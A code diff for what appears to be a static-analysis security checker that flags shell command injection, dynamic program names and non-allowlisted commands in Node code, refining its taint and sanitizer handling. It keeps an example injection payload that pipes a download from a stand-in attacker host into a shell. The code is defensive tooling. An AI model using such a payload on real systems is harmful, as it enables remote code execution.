@@ -2,8 +2,8 @@
 import { classifyCommand } from '../../policy/commands.js';
 import type { Action } from '../../policy/types.js';
 import type { Value } from '../facts.js';
-import { constString, dictGet, sanitizersOf, skeleton } from '../values.js';
-import { calleeText, fillHoles, quote, severityForTaint, taintPhrase, traceOf } from './common.js';
+import { constString, dictGet, joinValues, sanitizersOf, skeleton, unknown } from '../values.js';
+import { calleeText, fillHoles, quote, severityForTaint, taintPhrase, traceOf, unsanitized } from './common.js';
 import type { Check, CheckContext, SinkHit } from './types.js';
 
 export const COMMAND_PAYLOAD = 'x; curl http://attacker.invalid/x | sh';
@@ -43,7 +43,10 @@ export function spawnShape(hit: SinkHit): SpawnShape {
   }
   if (shell === true) {
     const items = listItems(main);
-    return { line: items ? items[0] : main, args: [], shell };
+    // with `shell: true`, Node joins the program and its arguments into one command line
+    const argv = typeof w.argsIndex === 'number' ? listItems(call.args[w.argsIndex]) : undefined;
+    const line = items ? items[0] : argv ? joinValues([main ?? unknown(), ...argv], ' ') : main;
+    return { line, args: [], shell };
   }
   const items = listItems(main);
   if (items) return { program: items[0], args: items.slice(1), shell };
@@ -80,12 +83,13 @@ export const commandShell: Check = {
     if (shape.line) {
       const v = shape.line;
       const sk = skeleton(v);
-      const taints = ctx.untrusted(v);
+      const raw = ctx.untrusted(v);
+      const taints = unsanitized(ctx, v, ['shell-quoted']);
       const action: Action = { kind: 'exec', command: fillHoles(v, COMMAND_PAYLOAD) ?? COMMAND_PAYLOAD, shell: true };
       if (sk && sk.holes.length === 0) {
         return { message: `\`${callee}\` runs ${quote(sk.text)} through a shell; pass an argv list without a shell, or run it through the kernel.`, severity: 'low', action };
       }
-      const quoted = sanitizersOf(v).includes('shell-quoted');
+      const quoted = taints.length < raw.length || sanitizersOf(v).includes('shell-quoted');
       const from = taints.length ? taintPhrase(taints) : 'dynamic values';
       return {
         message: `\`${callee}\` runs a shell command line built from ${from}${quoted ? ' (shell-quoted)' : ''}; pass an argv list without a shell instead.`,
@@ -103,7 +107,7 @@ export const commandShell: Check = {
     const verdict = classifyCommand({ command: program, args }, null);
     if (verdict.allowed || verdict.problem === 'empty') return undefined;
     const known = constArgs(shape.args);
-    const taints = shape.args.flatMap((a) => ctx.untrusted(a));
+    const taints = shape.args.flatMap((a) => unsanitized(ctx, a, []));
     const action: Action = { kind: 'exec', command: program, args };
     if (known) {
       return { message: `\`${callee}\` starts ${quote([program, ...known].join(' '))}: ${verdict.reason ?? 'a shell'}`, severity: 'low', action };
@@ -127,7 +131,7 @@ export const commandDynamic: Check = {
     const program = constString(shape.program);
     if (program === undefined) {
       if (!shape.program) return undefined;
-      const taints = ctx.untrusted(shape.program);
+      const taints = unsanitized(ctx, shape.program, []);
       return {
         message: `\`${callee}\` starts a program whose name is ${taints.length ? `taken from ${taintPhrase(taints)}` : 'not a constant'}; run a fixed program from an allowlist.`,
         severity: severityForTaint(taints, ctx.rule.severity),
@@ -135,7 +139,7 @@ export const commandDynamic: Check = {
         action: { kind: 'exec', command: '/tmp/agentos_probe', args: [] },
       };
     }
-    const taints = shape.args.flatMap((a) => ctx.untrusted(a));
+    const taints = shape.args.flatMap((a) => unsanitized(ctx, a, ['shell-quoted']));
     if (!taints.length) return undefined;
     return {
       message: `\`${callee}\` passes ${taintPhrase(taints)} as arguments to \`${program}\` outside the kernel; validate them (no leading \`-\`) or run the command through the kernel.`,
@@ -156,9 +160,10 @@ export const commandAllowlist: Check = {
     const program = constString(shape.program);
     if (program === undefined) return undefined;
     const verdict = classifyCommand({ command: program, args: constArgs(shape.args) ?? [] }, allow);
-    if (verdict.allowed || verdict.problem !== 'not-allowlisted') return undefined;
+    if (verdict.allowed || (verdict.problem !== 'not-allowlisted' && verdict.problem !== 'path-mismatch')) return undefined;
+    const why = verdict.problem === 'path-mismatch' ? (verdict.reason ?? 'a different binary than the allowed one') : `not in \`commands.allow\` (${allow.length ? allow.join(', ') : 'empty'})`;
     return {
-      message: `\`${calleeText(ctx, hit.call)}\` starts \`${program}\`, which is not in \`commands.allow\` (${allow.length ? allow.join(', ') : 'empty'}).`,
+      message: `\`${calleeText(ctx, hit.call)}\` starts \`${program}\`, which is ${why.replace(/\.$/, '')}.`,
       action: { kind: 'exec', command: program, args: constArgs(shape.args) ?? [] },
     };
   },
